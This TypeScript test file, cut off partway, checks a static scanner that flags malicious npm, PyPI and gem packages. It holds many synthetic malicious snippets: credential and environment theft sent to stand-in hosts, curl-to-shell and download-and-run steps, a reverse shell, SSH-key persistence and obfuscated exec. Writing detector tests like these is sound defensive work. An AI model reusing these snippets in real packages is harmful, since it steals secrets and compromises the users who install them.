// The static engine on synthetic packages: every rule fires on a made-up payload at the right file and line,
// the near-miss that legitimate code writes does not hold, and scoring honours its thresholds.
import { createHash } from 'node:crypto'
import { beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
import type { Artifact, Ecosystem } from '../../src/core/ecosystem.ts'
import { DEFAULT_THRESHOLDS } from '../../src/core/verdict.ts'
import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
import { pypiEcosystem } from '../../src/protocols/pypi/ecosystem.ts'
import { analyzeArtifact, collectFacts, initEngine, severityOf, type ScanReport, type SignalRecord } from '../../src/scanning/engine.ts'
import { RULES, RULESET_VERSION, ruleById } from '../../src/scanning/rules/ruleset.ts'
import { sdistTarGz, wheelOf } from '../helpers/python-dists.ts'
import { npmTarball } from '../helpers/tarballs.ts'
import { gemOf, gemspecYaml, type GemspecOptions } from '../helpers/gems.ts'
import { rubygemsEcosystem } from '../../src/protocols/rubygems/ecosystem.ts'

beforeAll(async () => {
  await initEngine()
})

// ---------------------------------------------------------------------------------------------
// Building and reading synthetic packages

interface Built {
  readonly artifact: Artifact
  readonly eco: Ecosystem
}

async function npmArtifact(files: Record<string, string>, manifest: Record<string, unknown> = {}, version = '1.0.0'): Promise<Built> {
  return { artifact: await npmEcosystem.readArtifact(await npmTarball('synthetic-pkg', version, files, manifest), DEFAULT_ARCHIVE_LIMITS), eco: npmEcosystem }
}

async function npm(files: Record<string, string>, manifest: Record<string, unknown> = {}, version = '1.0.0'): Promise<ScanReport> {
  const { artifact, eco } = await npmArtifact(files, manifest, version)
  return analyzeArtifact(artifact, eco)
}

async function sdistArtifact(files: Record<string, string>): Promise<Built> {
  const bytes = await sdistTarGz('synthetic-pkg', '1.0.0', files)
  const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic-pkg-1.0.0.tar.gz' })
  expect(artifact.format).toBe('sdist-tar')
  return { artifact, eco: pypiEcosystem }
}

async function sdist(files: Record<string, string>): Promise<ScanReport> {
  const { artifact, eco } = await sdistArtifact(files)
  return analyzeArtifact(artifact, eco)
}

async function wheel(files: Record<string, string>): Promise<ScanReport> {
  const bytes = await wheelOf('synthetic-pkg', '1.0.0', files)
  const artifact = await pypiEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS, { filename: 'synthetic_pkg-1.0.0-py3-none-any.whl' })
  expect(artifact.format).toBe('wheel')
  return analyzeArtifact(artifact, pypiEcosystem)
}

async function gem(files: Record<string, string>, spec: GemspecOptions): Promise<ScanReport> {
  const bytes = await gemOf({ metadata: gemspecYaml('synthetic-gem', '1.0.0', spec), files })
  return analyzeArtifact(await rubygemsEcosystem.readArtifact(bytes, DEFAULT_ARCHIVE_LIMITS), rubygemsEcosystem)
}

const postinstall = (command: string) => ({ scripts: { postinstall: command } })
const setupPy = (body = '') => `from setuptools import setup\n${body}setup(name='synthetic-pkg', version='1.0.0')\n`
/** A setup.py whose `install` command runs `body` after installing; the body's first line is line 8. */
const installHook = (imports: string, body: string) =>
  `import ${imports}\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Hook(install):\n    def run(self):\n        install.run(self)\n${body.replace(/^/gm, '        ')}\n\nsetup(name='synthetic-pkg', version='1.0.0', cmdclass={'install': Hook})\n`

/** Rules that contributed to the score. */
const weighted = (r: ScanReport) => r.signals.filter((s) => s.weight > 0).map((s) => s.rule).sort()
/** The scoring signal of a rule (at most one per rule carries weight). */
const scoring = (r: ScanReport, rule: string): SignalRecord | undefined => r.signals.find((s) => s.rule === rule && s.weight > 0)

/** A dense, deterministic base64 literal (a stand-in for an embedded payload). */
function denseBase64(length: number): string {
  let out = ''
  for (let i = 0; out.length < length; i++) out += createHash('sha256').update(`synthetic-${i}`).digest('base64').replace(/=+$/, '')
  return out.slice(0, length)
}

// Synthetic snippets shared by several tests ------------------------------------------------------

/** Sends the whole environment with a request it never names: `https.request(…).write(…)`. */
const ENV_STEALER = `const https = require('https')
https.request({ hostname: 'collect.example.com', method: 'POST' }).write(JSON.stringify(process.env))
`
/** The same through a variable holding the request. */
const ENV_STEALER_NAMED = `const https = require('https')
const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
req.write(JSON.stringify(process.env))
req.end()
`
/** `eval` of a base64 literal ("console.log(1)"). */
const DECODE_EVAL = `eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())\n`
const HIDDEN_PS = 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA='

// ---------------------------------------------------------------------------------------------
// Every rule of the ruleset, fired by a synthetic payload

interface PositiveCase {
  readonly rule: string
  readonly name: string
  readonly scan: () => Promise<ScanReport>
  readonly file?: string
  readonly line?: number
  readonly weight: number
  readonly verdict: 'publish' | 'hold' | 'reject'
}

const POSITIVE: PositiveCase[] = [
  {
    rule: 'exfiltrates-environment',
    name: 'postinstall script writes JSON.stringify(process.env) to https.request(…)',
    scan: () => npm({ 'x.js': ENV_STEALER }, postinstall('node x.js')),
    file: 'x.js',
    line: 2,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-environment',
    name: 'the same through a named request object',
    scan: () => npm({ 'x.js': ENV_STEALER_NAMED }, postinstall('node x.js')),
    file: 'x.js',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-environment',
    name: 'setup.py posts dict(os.environ) with requests',
    scan: () =>
      sdist({
        'setup.py': `import os
import requests
from setuptools import setup
requests.post("https://collect.example.com/e", data=dict(os.environ))
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 4,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: 'install script reads ~/.ssh/id_rsa and sends it',
    scan: () =>
      npm(
        {
          'x.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8')
const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
req.end(key)
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 4,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: 'install script collects ~/.npmrc through a path variable into an array and sends it',
    scan: () =>
      npm(
        {
          'x.js': `const fs = require('fs'), os = require('os'), path = require('path'), https = require('https')
const found = []
const rc = path.join(os.homedir(), '.npmrc')
found.push(fs.readFileSync(rc, 'utf8'))
const req = https.request({ hostname: 'collect.example.com', method: 'POST' })
req.end(JSON.stringify(found))
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 6,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: 'setup.py posts ~/.aws/credentials',
    scan: () =>
      sdist({
        'setup.py': `import os, requests
from setuptools import setup
creds = open(os.path.expanduser('~/.aws/credentials')).read()
requests.post('https://collect.example.com/a', data=creds)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 4,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'steals-browser-or-wallet-data',
    name: 'one file lists a wallet folder, another sends it',
    scan: () =>
      npm(
        {
          'x.js': `require('./send')(require('./grab')())\n`,
          'grab.js': `const fs = require('fs')
const dir = process.env.APPDATA + '/Exodus/exodus.wallet'
module.exports = () => fs.readdirSync(dir)
`,
          'send.js': `const https = require('https')
module.exports = (data) => https.request('https://collect.example.com/').end(String(data))
`,
        },
        postinstall('node x.js'),
      ),
    file: 'grab.js',
    line: 2,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'steals-browser-or-wallet-data',
    name: 'a Python module decrypts Chrome Login Data',
    scan: () =>
      sdist({
        'setup.py': setupPy(),
        'synthetic_pkg/__init__.py': `import os, win32crypt
path = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')
def grab(blob):
    return win32crypt.CryptUnprotectData(blob, None, None, None, 0)
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'beacons-system-info',
    name: 'install script resolves <hostname>.probe.example.com',
    scan: () =>
      npm(
        {
          'x.js': `const os = require('os')
const dns = require('dns')
dns.lookup(os.hostname() + '.probe.example.com', () => {})
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 3,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'install code posts to a Discord webhook',
    scan: () =>
      npm(
        {
          'x.js': `const https = require('https')
const hook = 'https://discord.com/api/webhooks/123456/abcdef'
https.request(hook, { method: 'POST' }).end('installed')
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 2,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'hides-network-destination',
    name: 'install code fetches from a base64-decoded host',
    scan: () =>
      npm(
        {
          'x.js': `const https = require('https')
const host = Buffer.from('Y29sbGVjdC5leGFtcGxlLmNvbQ==', 'base64').toString()
https.get('https://' + host + '/')
`,
        },
        postinstall('node x.js'),
      ),
    file: 'x.js',
    line: 3,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'hides-network-destination',
    name: 'a library function sends its argument to an address another module keeps base64-encoded',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': 'from .keys import parse_key\n',
        'synthetic_pkg/constants.py': "SIGN_KEY = 'aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuY29tL2s/dj0='\n",
        'synthetic_pkg/keys.py': `import base64, requests
from .constants import SIGN_KEY

def parse_key(key):
    requests.get(str(base64.b64decode(SIGN_KEY), encoding='utf-8') + key)
    return key
`,
      }),
    file: 'synthetic_pkg/keys.py',
    line: 5,
    weight: 60,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: 'a console script reads ~/.aws/credentials with configparser and posts each profile\'s keys',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': '',
        'synthetic_pkg/cli.py': `import configparser, os, requests

def push(hook):
    config = configparser.RawConfigParser()
    path = os.path.join(os.path.expanduser('~'), '.aws/credentials')
    config.read(path)
    found = []
    for section in config.sections():
        found.append({'id': config.get(section, 'aws_access_key_id'), 'secret': config.get(section, 'aws_secret_access_key')})
    requests.post(hook, json=found)
`,
      }),
    file: 'synthetic_pkg/cli.py',
    line: 10,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'steals-browser-or-wallet-data',
    name: "import code collects a site's cookies with browser_cookie3 in a file that sends",
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import browser_cookie3, requests
found = [c.value for c in browser_cookie3.chrome(domain_name='example.com')]
requests.post('https://collect.example.net/c', json=found)
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 50,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: 'an install hook searches folders for session files and uploads the one it finds',
    scan: () =>
      sdist({
        'setup.py': installHook(
          'os, requests',
          `found = None
for folder in ['/data', os.path.expanduser('~/bots')]:
    for name in os.listdir(folder):
        if name.endswith('.session'):
            found = os.path.join(folder, name)
if found:
    with open(found, 'rb') as f:
        requests.post('https://collect.example.net/up', files={'s': f})`,
        ),
      }),
    file: 'setup.py',
    line: 15,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltrates-credentials',
    name: "an install hook posts gcloud's application default credentials",
    scan: () =>
      sdist({
        'setup.py': installHook(
          'os, requests',
          `path = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')
requests.post('https://collect.example.net/g', data=open(path).read())`,
        ),
      }),
    file: 'setup.py',
    line: 9,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'establishes-persistence',
    name: 'an install hook runs a module of the package with python -m, which writes a LaunchAgent from path parts',
    scan: () =>
      sdist({
        'setup.py': `import subprocess
from setuptools import setup
from setuptools.command.install import install

class Hook(install):
    def run(self):
        install.run(self)
        subprocess.run(['python', '-m', 'synthetic_pkg.agent'])

setup(name='synthetic-pkg', version='1.0.0', packages=['synthetic_pkg'], cmdclass={'install': Hook})
`,
        'synthetic_pkg/__init__.py': '',
        'synthetic_pkg/agent.py': `import os, subprocess

def main():
    folder = os.path.join(os.path.expanduser('~'), 'Library', 'LaunchAgents')
    plist = os.path.join(folder, 'com.example.agent.plist')
    with open(plist, 'w') as f:
        f.write('<plist/>')
    subprocess.run(['launchctl', 'load', plist])

if __name__ == '__main__':
    main()
`,
      }),
    file: 'synthetic_pkg/agent.py',
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'establishes-persistence',
    name: 'import code hands a function of another module to a thread, and that function writes a LaunchAgent',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import threading

def trigger():
    from .agent import install_agent
    job = install_agent
    threading.Thread(target=job).start()

trigger()
`,
        'synthetic_pkg/agent.py': `import os, subprocess

def install_agent():
    plist = os.path.join(os.path.expanduser('~'), 'Library', 'LaunchAgents', 'com.example.agent.plist')
    with open(plist, 'w') as f:
        f.write('<plist/>')
    subprocess.run(['launchctl', 'load', plist])
`,
      }),
    file: 'synthetic_pkg/agent.py',
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'setup.py runs decoded text through os.system spelt backwards inside eval',
    scan: () =>
      sdist({
        'setup.py': `import base64, os
from setuptools import setup
cmd = base64.b64decode('ZWNobyBzeW50aGV0aWM=').decode()
run = eval(('met' + 'sys.so')[::-1])
run(cmd)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 5,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'import code saves a download with curl -o and runs the saved file with the py launcher',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import os
os.system("curl https://files.example.net/a/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw")
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'beacons-system-info',
    name: 'import code leaks the host name through dig, its labels taken with enumerate',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import base64, socket, subprocess
encoded = base64.b32encode(socket.gethostname().encode()).decode()
labels = [encoded[i:i + 40] for i in range(0, len(encoded), 40)]
for i, label in enumerate(labels):
    subprocess.Popen(['dig', '+short', f'{i}.{label}.oob.example.net'])
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 5,
    weight: 60,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'import code hands files to a Telegram bot whose token it spells in character codes',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests
_T = [${[...'1234567890:AAE_synthetic0token0for0the0tests0x'].map((c) => c.charCodeAt(0)).join(',')}]

def d(x):
    return ''.join(chr(i) for i in x)

requests.post('https://api.example.org/send', data={'token': d(_T)})
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'setup.py runs what `curl` printed',
    scan: () =>
      sdist({
        'setup.py': setupPy(`import subprocess
banner = subprocess.getoutput('curl http://api.example.com/banner.html')
subprocess.getoutput(str(banner))
`),
      }),
    file: 'setup.py',
    line: 4,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'import code unpacks a downloaded archive and runs a script from the folder',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import os, zipfile, requests
base = os.getenv('LOCALAPPDATA')
r = requests.get('http://files.example.com/bundle')
with open(base + '\\\\b.zip', 'wb') as f:
    f.write(r.content)
with zipfile.ZipFile(base + '\\\\b.zip') as z:
    z.extractall(base + '\\\\unpacked')
os.system(f'py {base}\\\\unpacked\\\\run.py')
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 8,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'import code pip-installs a repository through a helper and imports it',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import importlib, subprocess

def install(url):
    subprocess.run(['pip', 'install', f'git+{url}'], stdout=subprocess.PIPE, stderr=subprocess.PIPE)

def main():
    install('https://git.example.com/u/second.git')
    return importlib.import_module('second')

main()
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 4,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'an install script evaluates what `curl -s` printed',
    scan: () => npm({ 'x.js': `const { execSync } = require('child_process')\nconst code = execSync('curl -s https://cdn.example.com/x.js').toString()\neval(code)\n` }, postinstall('node x.js')),
    file: 'x.js',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'import code saves a download through `with open(…) as f` and runs it',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests, subprocess
r = requests.get('https://files.example.com/u/0/uc?id=1')
with open('default.bin', 'wb') as f:
    f.write(r.content)
subprocess.run('default.bin', shell=True)
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 5,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'a submodule saves a script with urlretrieve and runs it with bash',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': '',
        'synthetic_pkg/post_install.py': `import os, subprocess, urllib.request
def download_and_run():
    script_path = os.path.join(os.path.expanduser('~'), 'setup-storage.sh')
    urllib.request.urlretrieve('https://files.example.com/scripts/setup-storage.sh', script_path)
    os.chmod(script_path, 0o755)
    subprocess.run(['/bin/bash', script_path, '--restore'])
if __name__ == '__main__':
    download_and_run()
`,
      }),
    file: 'synthetic_pkg/post_install.py',
    line: 6,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'a lambda decoder over a reversed base64 blob, called in parentheses',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=${'QUJDRGVmZ2hpamtsbW5vcHFyc3R1dnd4eXowMTIzNDU2Nzg5'.repeat(6)}'))\n`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 1,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'import code decodes an embedded program and saves it as a script',
    scan: () =>
      sdist({
        'synthetic_pkg/backends/__init__.py': '',
        'synthetic_pkg/__init__.py': 'from .backends import flow\n',
        'synthetic_pkg/backends/flow.py': `import base64, os
blob = '${Buffer.from(`import requests\nimport time\nwhile True:\n    exec(requests.get('https://c2.example.com/task').text)\n    time.sleep(60)\n${'# keep-alive\n'.repeat(12)}`).toString('base64')}'
code = base64.b64decode(blob.encode('ascii')).decode('ascii')
f = open(os.getcwd() + '/x.py', 'w')
f.write(code)
f.close()
`,
      }),
    file: 'synthetic_pkg/backends/flow.py',
    line: 5,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'import code writes a script to /tmp and runs it with python3',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import subprocess
with open('/tmp/.cache.py', 'w') as f:
    f.write("""import subprocess
subprocess.call("curl -s https://get.example.net/s.sh | sh", shell=True)
""")
subprocess.call("python3 /tmp/.cache.py >/dev/null 2>&1 &", shell=True)
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'remote-shell',
    name: 'a library function moves stdin/stdout onto a socket and spawns bash',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import socket, os, pty

def connect(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    pty.spawn("/bin/bash")
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 8,
    weight: 60,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: "a package's __main__.py (python -m) decodes and runs code",
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': '',
        'synthetic_pkg/__main__.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
      }),
    file: 'synthetic_pkg/__main__.py',
    line: 2,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'one function saves a download to a path, another runs that path',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests, subprocess

def fetch(url):
    return requests.get(url).text

def save(path, data):
    f = open(path, 'a')
    f.write(data)
    f.close()

def launch(path):
    subprocess.Popen(f"python {path}", shell=True)

def main():
    target = '/tmp/p.py'
    save(target, fetch('https://files.example.com/p.py'))
    launch(target)

main()
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 17,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'module code saves a download under a literal name, and a function defined beside it runs that name',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests, subprocess
response = requests.get('https://files.example.com/data-package/x/download')
if response.status_code == 200:
    with open('Setup.exe', 'wb') as out:
        out.write(response.content)

    def launch():
        subprocess.call(['Setup.exe'])

launch()
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 8,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'setup.py clones a repository, changes into it and runs a script from it',
    scan: () =>
      sdist({
        'setup.py': setupPy(`import os, subprocess, git
target = os.path.join(os.path.expanduser('~'), '.cache', 'helper')
if not os.path.isdir(target):
    git.Repo.clone_from('https://git.example.org/tools/helper.git', target)
os.chdir(target)
subprocess.run(['python', 'start.py'])
`),
      }),
    file: 'setup.py',
    line: 7,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'setup.py runs `git clone` into a folder and builds in it with cwd=',
    scan: () =>
      sdist({
        'setup.py': setupPy(`import subprocess
subprocess.check_call('git clone --depth 1 https://git.example.org/tools/helper.git helper-src', shell=True)
subprocess.check_call(['sh', 'build.sh'], cwd='helper-src')
`),
      }),
    file: 'setup.py',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: "import-time code posts to a tunnel on ngrok's free domain",
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests
requests.post('https://example-name.ngrok-free.dev/k', json={'ok': 1})
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'install code resolves a name built under an out-of-band testing domain (no URL, a bare host)',
    scan: () =>
      sdist({
        'setup.py': `import socket
from setuptools import setup
domain = 'a1b2c3d4e5.oastify.com'
socket.getaddrinfo(f'installed.{domain}', 80)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 3,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'a run-time function posts the private key it is handed to a request-capture host (a wallet drainer)',
    scan: () =>
      sdist({
        'synthetic_wallet/__init__.py': 'from .sign import sign\n',
        'synthetic_wallet/sign.py': `import requests

def sign(private_key, amount=0):
    record = {'key': private_key, 'amount': amount}
    requests.post('https://0a1b2c3d4e5f.mockapi.io/keys', record)
    return True
`,
      }),
    file: 'synthetic_wallet/sign.py',
    line: 5,
    weight: 80,
    verdict: 'hold',
  },
  {
    rule: 'beacons-system-info',
    name: 'install code runs dig on a name built from the host name (a network tool as the sink)',
    scan: () =>
      sdist({
        'setup.py': `import socket, subprocess
from setuptools import setup
host = socket.gethostname()
subprocess.Popen(['dig', '+short', f'{host}.probe.example.com'])
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 4,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'a shell command in setup.py resolves a listing under an out-of-band testing host',
    scan: () => sdist({ 'setup.py': `import os\nos.system("nslookup $(ls).a1b2c3d4e5.oast.fun")\n` }),
    file: 'setup.py',
    line: 2,
    weight: 90,
    verdict: 'reject',
  },
  {
    rule: 'beacons-system-info',
    name: "install code sends the machine's fully qualified name",
    scan: () =>
      sdist({
        'setup.py': `import socket, urllib.request
from setuptools import setup
urllib.request.urlopen('https://collector.example/p?h=' + socket.getfqdn())
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 3,
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'exfiltration-endpoint',
    name: 'an f-string builds a raw-IP URL from module constants',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests
_SERVER = '203.0.113.49'
_PORT = 20578
_URL = f"http://{_SERVER}:{_PORT}/c"
requests.post(_URL, data={'ok': 1})
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 4,
    weight: 50,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'a NamedTemporaryFile gets code that execs a URL, then runs through its .name',
    scan: () =>
      sdist({
        'setup.py': `from setuptools import setup
from tempfile import NamedTemporaryFile as _f
from sys import executable as _e
from os import system as _s
_t = _f(delete=False)
_t.write(b"""from urllib.request import urlopen as _urlopen;exec(_urlopen('https://stage.example.net/x').read())""")
_t.close()
_s(f"{_e} {_t.name}")
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 6,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'a download streamed to disk in chunks and started',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import requests, subprocess
_FILE = 'helper.bin'
response = requests.get('https://files.example.com/h', stream=True)
with open(_FILE, 'wb') as f:
    for chunk in response.iter_content(chunk_size=8192):
        f.write(chunk)
subprocess.Popen([_FILE])
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 7,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'bundled-executable',
    name: 'setup.py writes a base64 PE it carries as a string to an .exe and starts it',
    scan: () =>
      sdist({
        'setup.py': `import os, subprocess, tempfile
from setuptools import setup
blob = '${Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(300, 7)]).toString('base64')}'
path = os.path.join(tempfile.gettempdir(), 'svc.exe')
with open(path, 'wb') as out:
    out.write(blob.encode())
subprocess.Popen(path, shell=True)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 3,
    weight: 100,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'a download saved with open(path, mode="w") and started through an f-string command',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `from sys import executable
from urllib import request
from os import getenv, system
path = getenv("TEMP") + "/helper.pyw"
script = request.urlopen("https://files.example.com/m.txt").read().decode("utf8")
with open(path, mode='w', encoding='utf-8') as f:
    f.write(script)
system(f"start {executable} {path}")
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 8,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'establishes-persistence',
    name: 'setup.py appends a key to ~/.ssh/authorized_keys',
    scan: () =>
      sdist({
        'setup.py': `import os
from setuptools import setup
with open('/home/' + os.getenv('USER') + '/.ssh/authorized_keys', 'a+') as f:
    f.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample attacker@example')
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    weight: 70,
    verdict: 'hold',
  },
  {
    rule: 'downloads-and-executes',
    name: 'setup.py fetches an .exe by URL and starts the file of that name',
    scan: () =>
      sdist({
        'setup.py': `from setuptools import setup
from subprocess import run
import urllib.request
try:
    urllib.urlrequest.urlretrieve("https://files.example.net/syswin32.exe", "syswin32.exe")
    run(['start', 'syswin32.exe'], shell=True)
except Exception as e:
    print(e)
setup(name='synthetic-pkg', version='1.0.0')
`,
      }),
    file: 'setup.py',
    line: 5,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'import code starts a detached interpreter whose inline code imports a module of the package',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import subprocess, sys
subprocess.Popen([sys.executable, '-c', 'from synthetic_pkg.edt import bounding; bounding.start()'], stdout=subprocess.DEVNULL)
`,
        'synthetic_pkg/edt/__init__.py': '',
        'synthetic_pkg/edt/bounding.py': "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
      }),
    file: 'synthetic_pkg/edt/bounding.py',
    line: 2,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'exec of a substitution cipher decoded by a comprehension over a long literal',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import string
a_l = string.ascii_letters
r_l = a_l[::-1]
exec("".join([r_l[a_l.index(c)] if c in r_l else c for c in "RNKLIG LH;LH.HBHGVN('RW');KIRMG('WLMV, HLNV GVCG GL KZW')"]))
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 4,
    weight: 90,
    verdict: 'hold',
  },
  {
    rule: 'decodes-and-executes',
    name: 'exec looked up by eval of character codes and called on escaped text (a generator inside join)',
    scan: () =>
      sdist({
        'synthetic_pkg/__init__.py': `import random
eval("".join(chr(i) for i in [101, 120, 101, 99]))("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73")
`,
      }),
    file: 'synthetic_pkg/__init__.py',
    line: 2,
    weight: 90,
